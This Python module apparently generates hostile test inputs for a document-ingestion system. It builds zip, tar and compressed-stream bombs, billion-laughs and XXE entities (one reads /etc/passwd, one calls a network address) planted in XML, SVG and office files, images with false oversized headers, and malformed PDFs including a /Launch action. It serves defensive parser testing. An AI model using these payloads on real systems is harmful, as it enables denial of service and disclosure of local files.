"""Files that grow when they are opened: archives that hold far more than they weigh, entities that double, pictures and pages that claim to be endless."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from ingest import making, office, packing

ZEROS = 80 << 20


def overlapping_zip(members: int = 300, size: int = 4 << 20) -> bytes:
    """Members that all point at the same packed bytes, in the manner of David Fifield."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush()
    local = (
        struct.pack("<4s5HLLLHH", b"PK\x03\x04", 20, 0, 8, 0, 33, zlib.crc32(bytes(size)), len(packed), size, 1, 0)
        + b"a"
        + packed
    )
    entry = b"".join(
        struct.pack(
            "<4s6HLLLHHHHHLL",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            33,
            zlib.crc32(bytes(size)),
            len(packed),
            size,
            4,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"%04d" % n
        for n in range(members)
    )
    return local + entry + struct.pack("<4s4HLLH", b"PK\x05\x06", 0, 0, members, members, len(entry), len(local), 0)


def nested_zip(depth: int, inner: bytes = b"the innermost words") -> bytes:
    """Zips in zips, one in each."""
    data = making.zipped({"a.txt": inner})
    for _ in range(depth):
        data = making.zipped({"a.zip": data})
    return data


def quine_zip() -> bytes:
    """A zip whose member is itself as far as anybody can see: a name that leads back, and bytes that begin alike at every level."""
    data = making.zipped({"r.zip": b"PK\x03\x04"})
    for _ in range(40):
        data = making.zipped({"r.zip": data}, zipfile.ZIP_STORED)
    return data


def sparse_tar() -> bytes:
    """A tar member that claims 60 GB in holes."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("hole")
        info.size = 1024
        info.pax_headers = {
            "GNU.sparse.major": "0",
            "GNU.sparse.minor": "1",
            "GNU.sparse.map": "0,512,64424509440,512",
            "GNU.sparse.size": "64424509952",
        }
        archive.addfile(info, io.BytesIO(bytes(1024)))
    return out.getvalue()


def tar_of_zeros(mode: str) -> bytes:
    """A packed tar with one large member of zeros."""
    return packing.tarred({"zeros.bin": bytes(ZEROS)}, mode)


def laughs(levels: int = 30) -> str:
    """Entities that hold ten of the one before."""
    lines = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels)]
    return f"<!DOCTYPE x [{''.join(lines)}]>", f"&l{levels - 1};"


def quadratic() -> tuple[str, str]:
    """One long entity, named very often."""
    return f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 20_000


def external() -> tuple[str, str]:
    """An entity that asks for a file of the machine, and one that asks the network."""
    return '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM "http://192.0.2.1/">]>', "&f;&n;"


def _bodies() -> dict[str, tuple[str, str]]:
    return {"laughs": laughs(), "quadratic": quadratic(), "external": external()}


def entity_files() -> dict[str, bytes]:
    """The three tricks with entities in every kind that is XML inside."""
    found: dict[str, bytes] = {}
    docx, book = making.docx("WORDS"), _sheet()
    odt = office.odf("text", "<text:p>WORDS</text:p>")
    for name, (head, body) in _bodies().items():

        def planted(part: bytes, head: str = head, body: str = body) -> bytes:
            declaration, _, rest = (
                part.partition(b"?>") if part.startswith(b"<?xml") else (b"<?xml version='1.0'", b"", part)
            )
            return declaration + b"?>" + head.encode() + rest.replace(b"WORDS", body.encode())

        found[f"{name}.xml"] = f"<?xml version='1.0'?>{head}<x>{body}</x>".encode()
        found[f"{name}.svg"] = (
            f"<?xml version='1.0'?>{head}<svg xmlns='http://www.w3.org/2000/svg'><text>{body}</text></svg>".encode()
        )
        found[f"{name}.docx"] = office.repacked(docx, {"word/document.xml": planted})
        found[f"{name}.xlsx"] = office.repacked(book, {"xl/sharedStrings.xml": planted})
        found[f"{name}.odt"] = office.repacked(odt, {"content.xml": planted})
    return found


def _sheet() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["WORDS"])
    return office.saved(book)


def wide_pictures() -> dict[str, bytes]:
    """Pictures whose headers claim far more pixels than there are bytes for."""
    header = struct.pack(">LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + chunk + struct.pack(">L", zlib.crc32(chunk))
    data = b"IDAT" + zlib.compress(bytes(1 << 20))
    png += struct.pack(">L", len(data) - 4) + data + struct.pack(">L", zlib.crc32(data))
    tags = [
        (256, 4, 1, 70_000),
        (257, 4, 1, 70_000),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 4, 1, 70_000),
        (279, 4, 1, 100),
    ]
    directory = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHLL", *t) for t in tags)
    tiff = b"II*\x00" + struct.pack("<L", 8) + directory + struct.pack("<L", 0) + bytes(100)
    loop = b"II*\x00" + struct.pack("<L", 8) + directory + struct.pack("<L", 8) + bytes(100)
    gif = (
        b"GIF89a"
        + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0)
        + b","
        + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0)
        + b"\x02\x02\x4c\x01\x00;"
    )
    bmp = (
        b"BM"
        + struct.pack("<LHHL", 154, 0, 0, 54)
        + struct.pack("<LllHHLLllLL", 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(100)
    )
    return {"huge.png": png, "huge.tif": tiff, "loop.tif": loop, "huge.gif": gif, "huge.bmp": bmp}


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a table of where they lie."""
    out, starts = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % s for s in starts)
    return bytes(out + b"trailer <</Size %d /Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, table))


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object, packed."""
    packed = zlib.compress(data, 9)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def hostile_pdfs() -> dict[str, bytes]:
    """PDFs with endless pages, trees without end, bombs in streams, loops."""
    catalog = b"<</Type /Catalog /Pages 2 0 R>>"
    box = b"/MediaBox [0 0 200 200]"
    deep = (
        [catalog]
        + [b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (n + 3) for n in range(3000)]
        + [b"<</Type /Page /Parent 2 0 R " + box + b">>"]
    )
    once = zlib.compress(bytes(200 << 20), 9)
    twice = zlib.compress(once, 9)
    bomb = b"<</Length %d /Filter [/FlateDecode /FlateDecode]>>\nstream\n%s\nendstream" % (len(twice), twice)
    page = b"<</Type /Page /Parent 2 0 R %s /Contents 4 0 R>>"
    kids = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"
    return {
        "wide-page.pdf": pdf(catalog, kids, page % b"/MediaBox [0 0 14400000 14400000]", stream(b"0 0 m 9 9 l S")),
        "bomb-stream.pdf": pdf(catalog, kids, page % box, bomb),
        "deep-tree.pdf": pdf(*deep),
        "loop-tree.pdf": pdf(catalog, b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>"),
        "many-pages.pdf": pdf(
            catalog, b"<</Type /Pages /Kids [%s] /Count 1000000>>" % (b"3 0 R " * 5000), page % box, stream(b"")
        ),
        "xref-loop.pdf": b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer <</Size 1 /Prev 9>>\nstartxref\n9\n%%EOF",
        "script.pdf": pdf(
            b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /Launch /F (/bin/touch) /Win <</F (calc)>>>>>>",
            kids,
            page % box,
            stream(b""),
        ),
    }


def packed_bombs() -> dict[str, bytes]:
    """A bomb of each kind of container."""
    zeros = bytes(ZEROS)
    found = {
        "zeros.zip": making.zipped({"zeros.bin": zeros}),
        "overlapping.zip": overlapping_zip(),
        "zeros.gz": gzip.compress(zeros),
        "zeros.bz2": bz2.compress(zeros),
        "zeros.xz": lzma.compress(zeros),
        "zeros.tar.gz": tar_of_zeros("w:gz"),
        "zeros.tar.xz": tar_of_zeros("w:xz"),
        "sparse.tar": sparse_tar(),
        "deep.zip": nested_zip(30),
        "quine.zip": quine_zip(),
        "many.zip": packing.wide_zip(1_000_000),
        "nest.zip": packing.zip_bomb(4),
    }
    try:
        found["zeros.7z"] = packing.library({"zeros.bin": zeros}, "7zip")
        found["zeros.tar.zst"] = packing.library({"zeros.bin": zeros}, "pax", "zstd")
        found["zeros.cpio"] = packing.library({"zeros.bin": bytes(40 << 20)}, "cpio", "gzip")
        found["zeros.iso"] = packing.library({"zeros.bin": bytes(4 << 20)}, "iso9660")
    except ImportError:
        pass
    return found
